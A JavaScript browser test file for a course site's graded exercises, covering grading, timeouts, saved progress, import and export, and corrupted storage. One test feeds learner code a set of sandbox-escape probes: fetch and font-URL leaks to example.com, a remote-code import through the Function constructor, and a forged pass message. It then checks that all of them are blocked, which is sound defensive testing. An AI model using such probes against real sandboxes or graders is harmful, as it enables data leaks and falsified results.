// Graded exercises in Chromium: a code exercise end to end (wrong answer with
// case and values, an infinite loop stopped by the time limit while the page
// keeps answering, the correct answer announced), progress across a reload,
// export → reset → import, a rejected import, an import naming an unknown exercise, and a corrupted stored value
// (backed up, reported, clean start).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { compileCourse } from '../../scripts/lessons/course.mjs';
import { repo, sharedSite, newPage } from './harness.mjs';
import { PROGRESS_KEY, paneOf as paneOfIn, NAIVE_SOFTMAX, NAIVE_SOFTMAX_VERDICT, setCode, codeOf } from './exercise-fixtures.mjs';

const { course } = compileCourse({ root: repo });
const KEY = PROGRESS_KEY;
const site = sharedSite();
const paneOf = (id) => paneOfIn(course, id);
// the numeric exercise the progress tests solve, and its answer as typed
const COST_RATIO = String(course.exercises['cost-ratio'].answer);

const status = (ex) => ex.locator('.exercise-status');
/** Waits until the live region holds a verdict (not the busy text) and returns it. */
async function verdictText(page, id, timeout = 20000) {
  await page.waitForFunction((i) => {
    const s = document.querySelector(`[data-exercise="${i}"] .exercise-status`);
    return s && s.textContent && s.dataset.tone !== 'busy';
  }, id, { timeout });
  return status(page.locator(`[data-exercise="${id}"]`)).innerText();
}

test('code exercise: wrong answer shows case and values; an infinite loop times out; the correct answer is announced; progress survives a reload', async () => {
  const id = 'softmax-stable';
  const { page, context, consoleErrors, foreignRequests } = await newPage(site.browser, `${site.url}${paneOf(id)}`);
  const ex = page.locator(`[data-exercise="${id}"]`);
  await ex.locator('.cm-content').waitFor();
  assert.equal(await status(ex).getAttribute('aria-live'), 'polite');
  assert.equal(await status(ex).getAttribute('role'), 'status');

  // Wrong: the naive softmax overflows on the 1000-logit example.
  await setCode(ex, NAIVE_SOFTMAX);
  await ex.locator('button.run').click();
  const wrong = await verdictText(page, id);
  assert.match(wrong, NAIVE_SOFTMAX_VERDICT);
  assert.match(await ex.locator('.result-fail').innerText(), /FAIL\s+example 2: 1×3 logits near 1000/);

  // An infinite loop: stopped within 3 s, and the page answers clicks meanwhile.
  await setCode(ex, 'function softmax(rows) {\n  while (true) {}\n}');
  const t0 = Date.now();
  await ex.locator('button.submit').click();
  await ex.locator('button.reveal-next').click();
  await ex.locator('.hint-list li').first().waitFor({ timeout: 1000 });
  const clickedAfter = Date.now() - t0;
  assert.ok(clickedAfter < 1900, `the hint appeared ${clickedAfter} ms after submitting, while the loop ran`);
  const loop = await verdictText(page, id, 3000);
  const elapsed = Date.now() - t0;
  assert.match(loop, /^Error: timed out after 2 s/);
  assert.ok(elapsed < 3000, `timed out after ${elapsed} ms`);

  // The next submission (the reference solution) runs in a fresh worker and passes.
  const solution = course.exercises[id].solution;
  await setCode(ex, solution);
  await ex.locator('button.submit').click();
  const pass = await verdictText(page, id);
  assert.match(pass, /^Passed: all \d+ cases, examples and hidden cases\. Exercise solved\.$/);
  assert.match(await ex.locator('.exercise-badge').innerText(), /Solved/);
  assert.equal(await ex.locator('.reference-solution summary').innerText(), 'Compare with the reference solution');

  // A numeric exercise on another pane, answered wrong then right.
  await page.goto(`${site.url}${paneOf('sqrt-dk-numeric')}`);
  const num = page.locator('[data-exercise="sqrt-dk-numeric"]');
  await num.locator('input').fill('7');
  await num.locator('button.check').click();
  assert.match(await verdictText(page, 'sqrt-dk-numeric'), /^Not yet: 7 is not the expected value/);
  // a common mistake declared in the exercise gets its own message, without the expected value
  await num.locator('input').fill('64');
  await num.locator('button.check').click();
  const told = await verdictText(page, 'sqrt-dk-numeric');
  assert.match(told, /^Not yet: 64 — that is d_k itself/);
  assert.doesNotMatch(told, /\b8\b/);
  await num.locator('input').fill('8');
  await num.locator('button.check').click();
  assert.match(await verdictText(page, 'sqrt-dk-numeric'), /^Correct/);

  // Reload: solved, the code, attempts and the revealed hint are still there.
  await page.goto(`${site.url}${paneOf(id)}`);
  await page.reload();
  await ex.locator('.cm-content').waitFor();
  assert.match(await ex.locator('.exercise-badge').innerText(), /Solved/);
  assert.equal(await codeOf(ex), solution);
  assert.match(await ex.locator('.exercise-attempts').innerText(), /2 attempts/);
  assert.equal(await ex.locator('.hint-list li').count(), 1);
  const stored = JSON.parse(await page.evaluate((k) => localStorage.getItem(k), KEY));
  assert.equal(stored.version, 1);
  assert.equal(stored.exercises[id].solved, true);
  assert.equal(stored.exercises['sqrt-dk-numeric'].attempts, 3, 'three answers: 7, 64, 8');
  assert.deepEqual(consoleErrors, []);
  assert.deepEqual(foreignRequests, []);
  await context.close();
});

test('progress panel: export, reset with confirmation, import restores; a bad file is rejected and changes nothing', async () => {
  const { page, context, consoleErrors } = await newPage(site.browser, `${site.url}${paneOf('cost-ratio')}`);
  const ex = page.locator('[data-exercise="cost-ratio"]');
  await ex.locator('input').fill(COST_RATIO);
  await ex.locator('button.check').click();
  assert.match(await verdictText(page, 'cost-ratio'), /^Correct/);

  await page.goto(`${site.url}#/`);
  const panel = page.locator('.progress-panel');
  await panel.waitFor();
  assert.match(await panel.locator('.progress-summary').innerText(), new RegExp(`^1 of ${Object.keys(course.exercises).length} exercises solved`));

  const [download] = await Promise.all([page.waitForEvent('download'), panel.locator('button.progress-export').click()]);
  const file = path.join(await fs.mkdtemp(path.join(os.tmpdir(), 'lml-progress-')), download.suggestedFilename());
  await download.saveAs(file);
  const exported = JSON.parse(await fs.readFile(file, 'utf8'));
  assert.equal(exported.schema, 'long-memory-lab/progress');
  assert.equal(exported.exercises['cost-ratio'].solved, true);

  await panel.locator('button.progress-reset').click();
  await panel.locator('button.progress-reset-cancel').click();
  assert.match(await panel.locator('.progress-summary').innerText(), /^1 of/);
  await panel.locator('button.progress-reset').click();
  await panel.locator('button.progress-reset-confirm').click();
  await page.waitForFunction(() => /^0 of/.test(document.querySelector('.progress-summary').textContent));
  assert.deepEqual(JSON.parse(await page.evaluate((k) => localStorage.getItem(k), KEY)).exercises, {});

  const bad = path.join(path.dirname(file), 'bad.json');
  await fs.writeFile(bad, JSON.stringify({ schema: 'long-memory-lab/progress', version: 9, exercises: {} }));
  await panel.locator('input[type="file"]').setInputFiles(bad);
  await page.waitForFunction(() => /Import rejected/.test(document.querySelector('.progress-status').textContent));
  assert.match(await panel.locator('.progress-status').innerText(), /version 9, made by a newer version .* Nothing was changed\.$/);
  assert.match(await panel.locator('.progress-summary').innerText(), /^0 of/);

  // a file too large is refused before it is read
  const huge = path.join(path.dirname(file), 'huge.json');
  await fs.writeFile(huge, ' '.repeat(2_100_000));
  await panel.locator('input[type="file"]').setInputFiles(huge);
  await page.waitForFunction(() => /larger than a progress file/.test(document.querySelector('.progress-status').textContent));
  assert.match(await panel.locator('.progress-summary').innerText(), /^0 of/);

  // a file also naming an exercise this course does not have: the rest imports, that id is named
  const foreign = path.join(path.dirname(file), 'foreign.json');
  await fs.writeFile(foreign, JSON.stringify({ ...exported, exercises: { ...exported.exercises, 'no-such-exercise': exported.exercises['cost-ratio'] } }));
  await panel.locator('input[type="file"]').setInputFiles(foreign);
  await page.waitForFunction(() => /no exercise/.test(document.querySelector('.progress-status').textContent));
  assert.match(await panel.locator('.progress-status').innerText(), /^Imported progress for 1 exercise .*no exercise “no-such-exercise”/);
  assert.match(await panel.locator('.progress-summary').innerText(), /^1 of/);
  await page.goto(`${site.url}${paneOf('cost-ratio')}`);
  await ex.locator('input').waitFor();
  assert.equal(await ex.locator('input').inputValue(), COST_RATIO);
  assert.match(await ex.locator('.exercise-badge').innerText(), /Solved/);
  assert.deepEqual(consoleErrors, []);
  await context.close();
});

test('two tabs: a wrong answer in one never erases a solve in the other, and the other tab shows the solve', async () => {
  const { page, context, consoleErrors } = await newPage(site.browser, `${site.url}${paneOf('cost-ratio')}`);
  const other = await context.newPage();
  await other.goto(`${site.url}${paneOf('cost-ratio')}`);
  const ex1 = page.locator('[data-exercise="cost-ratio"]');
  const ex2 = other.locator('[data-exercise="cost-ratio"]');
  await ex2.locator('input').waitFor();
  await ex1.locator('input').fill(COST_RATIO);
  await ex1.locator('button.check').click();
  assert.match(await verdictText(page, 'cost-ratio'), /^Correct/);
  await other.waitForFunction(() => /Solved/.test(document.querySelector('[data-exercise="cost-ratio"] .exercise-badge')?.textContent ?? ''));
  await ex2.locator('input').fill('7');
  await ex2.locator('button.check').click();
  await page.reload();
  await ex1.locator('.exercise-badge').waitFor();
  assert.match(await ex1.locator('.exercise-badge').innerText(), /Solved/);
  const stored = JSON.parse(await page.evaluate((k) => localStorage.getItem(k), KEY));
  assert.equal(stored.exercises['cost-ratio'].solved, true);
  assert.equal(stored.exercises['cost-ratio'].attempts, 2);
  assert.deepEqual(consoleErrors, []);
  await context.close();
});

test('full storage: a failed save shows "Progress could not be saved — export it"', async () => {
  const full = { content: `(() => { const set = Storage.prototype.setItem; Storage.prototype.setItem = function (k, v) {
    if (k === '${KEY}') throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
    return set.call(this, k, v); }; })();` };
  const { page, context, consoleErrors } = await newPage(site.browser, `${site.url}${paneOf('cost-ratio')}`, { init: full });
  const ex = page.locator('[data-exercise="cost-ratio"]');
  await ex.locator('input').fill(COST_RATIO);
  await ex.locator('button.check').click();
  const banner = page.locator('.progress-notice-save');
  await banner.waitFor();
  assert.match(await banner.innerText(), /Progress could not be saved — export it/);
  assert.equal(await banner.getAttribute('role'), 'alert');
  assert.deepEqual(consoleErrors, []);
  await context.close();
});

test('a corrupted stored value is backed up, the learner is told, and the course starts clean', async () => {
  const { page, context } = await newPage(site.browser, `${site.url}#/`);
  // Corrupt the stored value at the start of the next document, before the app
  // reads it (writing it from the live page races with that page's own saves).
  await context.addInitScript((k) => {
    if (sessionStorage.getItem('corrupted-once')) return;
    sessionStorage.setItem('corrupted-once', '1');
    localStorage.setItem(k, '{"schema": "long-memory-lab/progress", "vers');
  }, KEY);
  await page.goto(`${site.url}${paneOf('cost-ratio')}`);
  await page.reload();
  const notice = page.locator('.progress-notice');
  await notice.waitFor();
  assert.equal(await notice.getAttribute('role'), 'alert');
  assert.match(await notice.innerText(), /Saved progress could not be read\..*not valid JSON.*A copy was kept in this browser under the key “lml\.progress\.v1\.backup”/s);
  assert.equal(await page.evaluate((k) => localStorage.getItem(`${k}.backup`), KEY), '{"schema": "long-memory-lab/progress", "vers');
  assert.deepEqual(JSON.parse(await page.evaluate((k) => localStorage.getItem(k), KEY)).exercises, {});
  // The exercise works from a clean state.
  const ex = page.locator('[data-exercise="cost-ratio"]');
  assert.match(await ex.locator('.exercise-badge').innerText(), /Not solved/);
  await ex.locator('input').fill(COST_RATIO);
  await ex.locator('button.check').click();
  assert.match(await verdictText(page, 'cost-ratio'), /^Correct/);
  await context.close();
});

test('learner code has no DOM, storage or network; experiments are recomputed by the core in the worker', async () => {
  const { page, context, consoleErrors, foreignRequests } = await newPage(site.browser, `${site.url}${paneOf('softmax-stable')}`);
  const ex = page.locator('[data-exercise="softmax-stable"]');
  await setCode(ex, `function softmax(rows) {
  const probes = {
    fetch: () => fetch('http://example.com/x'),
    protoFetch: () => WorkerGlobalScope.prototype.fetch.call(self, '/x'),
    xhr: () => new XMLHttpRequest(),
    socket: () => new WebSocket('ws://127.0.0.1:9'),
    idb: () => indexedDB.open('x'),
    caches: () => caches.open('x'),
    importScripts: () => importScripts('/x.js'),
    post: () => self.postMessage({ type: 'result', id: 1, verdict: { status: 'pass', tests: [] } }),
    storage: () => navigator.storage.getDirectory(),
    doc: () => document.title,
    local: () => localStorage.getItem('x'),
    fontface: () => new FontFace('x', 'url(http://example.com/leak?s=1)').load(),
    fonts: () => self.fonts.add(null),
    ctor: () => Function('return import("http://example.com/x.js")')(),
    protoCtor: () => (function () {}).constructor('return 1')(),
    asyncCtor: () => (async () => {}).constructor('return 1')(),
    genCtor: () => (function* () {}).constructor('yield 1')(),
    evil: () => eval('1 + 1'),
  };
  for (const [k, f] of Object.entries(probes)) {
    try { f(); console.log(k, 'ALLOWED'); } catch (e) { console.log(k, 'blocked:', e.message); }
  }
  return rows;
}`);
  await ex.locator('button.run').click();
  assert.match(await verdictText(page, 'softmax-stable'), /^Failed/, 'the forged postMessage did not produce a pass');
  const out = await ex.locator('.result-output pre').first().textContent();
  assert.doesNotMatch(out, /ALLOWED/);
  for (const k of ['fetch', 'protoFetch', 'xhr', 'socket', 'idb', 'caches', 'importScripts', 'post', 'storage', 'local',
    'fontface', 'fonts', 'ctor', 'protoCtor', 'asyncCtor', 'genCtor', 'evil']) {
    assert.match(out, new RegExp(`^${k} blocked: \\S+ is not available in exercises`, 'm'), out);
  }
  assert.match(out, /^doc blocked: document is not defined$/m);
  assert.deepEqual(foreignRequests, []);

  // Errors name the line in the editor; "Go to line" selects it.
  await setCode(ex, 'function softmax(rows) {\n\n  return matmul(rows, rows);\n}');
  await ex.locator('button.run').click();
  assert.match(await verdictText(page, 'softmax-stable'), /example 1: 2×3 small logits: line 3: Error: matmul: A is \[2, 3\] and B is \[2, 3\]/);
  await ex.locator('button', { hasText: 'Go to line 3' }).first().click();
  assert.equal(await page.evaluate(() => document.activeElement.closest('.cm-editor') !== null && getSelection().toString()), '  return matmul(rows, rows);');
  await setCode(ex, 'function softmax(rows) {\n  const x = ;\n}');
  await ex.locator('button.run').click();
  assert.equal(await verdictText(page, 'softmax-stable'), "Error: line 2: SyntaxError: Unexpected token ';'");

  // the cheat sheet's exercise 3: the learner runs the memory-sweep, reports three of its points,
  // and the grader re-measures with the widget's own settings (5 documents per point from seed 777)
  await page.goto(`${site.url}${paneOf('cache-size-experiment')}?memory-sweep.docs=5&memory-sweep.seed=777`);
  const sweep = page.locator('[data-widget="memory-sweep"]');
  await sweep.getByRole('button', { name: 'Run' }).click();
  await page.waitForFunction(() => /^Done/.test(document.querySelector('[data-widget="memory-sweep"] .widget-status')?.textContent ?? ''), null, { timeout: 120000 });
  await sweep.getByRole('button', { name: /Show as table/ }).click();
  await sweep.locator('.widget-table tbody tr').first().waitFor();
  const measured = Object.fromEntries(await sweep.locator('.widget-table tbody tr').evaluateAll((rows) =>
    rows.map((r) => [...r.querySelectorAll('th, td')].map((c) => c.textContent.trim())).map((c) => [c[0], c[1]])));
  const cache = page.locator('[data-exercise="cache-size-experiment"]');
  for (const [i, N] of ['8', '16', '64'].entries()) await cache.locator('input').nth(i).fill(measured[N]);
  await cache.locator('button.check').click();
  assert.match(await verdictText(page, 'cache-size-experiment', 60000), /^Correct\./);
  await cache.locator('input').first().fill(String((Number(measured['8']) + 0.1).toFixed(3)));
  await cache.locator('button.check').click();
  assert.match(await verdictText(page, 'cache-size-experiment', 60000), /re-measured by the grader on your settings: 5 documents per point from seed 777/);
  assert.deepEqual(consoleErrors, []);
  await context.close();
});
